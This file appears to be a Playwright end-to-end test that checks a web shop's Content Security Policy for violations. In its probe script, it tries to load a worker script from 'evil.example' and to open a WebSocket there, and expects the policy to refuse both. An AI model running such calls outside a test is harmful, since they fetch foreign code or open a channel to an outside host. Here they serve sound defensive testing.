"""The shop's own pages keep to the policy that it sends with them: nothing is refused while they work."""

from __future__ import annotations

from playwright.sync_api import Browser, expect

from tests.e2e.conftest import profile
from tests.e2e.person import Person
from tests.shop import Shop

WATCH = """
globalThis.refused = [];
addEventListener('securitypolicyviolation', (event) =>
  refused.push(`${event.violatedDirective} ${event.blockedURI} ${event.sample} ${event.sourceFile}`));
"""
TRY = """
() => {
  const kinds = [];
  try { document.createElement('div').innerHTML = '<b>x</b>'; } catch { kinds.push('markup'); }
  try { new Worker('https://evil.example/x.js'); } catch { kinds.push('worker'); }
  try { new Worker(URL.createObjectURL(new Blob(['0']))).terminate(); kinds.push('own worker'); } catch {}
  try { new WebSocket('wss://evil.example/'); } catch { kinds.push('socket'); }
  return kinds;
}
"""


def test_no_page_breaks_the_policy(browser: Browser, shop: Shop) -> None:
    """A room and the pages beside it; then what a stranger's text or address would try is refused."""
    context = profile(browser)
    context.add_init_script(WATCH)
    page = context.new_page()
    for path in ("/", "/brand", "/mine", "/operate", "/certificates/31337/0x00/1"):
        page.goto(f"{shop.url}{path}")
        expect(page.locator("main, #app, body > *").first).to_be_visible()
        assert page.evaluate("refused") == [], path
    page.goto(f"{shop.url}/rooms/boutique")
    Person(page).enter("Ada")
    page.wait_for_function("performance.getEntriesByType('resource').some((each) => /glb/.test(each.name))")
    page.wait_for_timeout(2_000)
    assert page.evaluate("refused") == []
    assert set(page.evaluate(TRY)) == {"markup", "worker", "own worker"}, "the policy is there"
    page.wait_for_function("refused.some((each) => each.startsWith('connect-src'))")
    context.close()
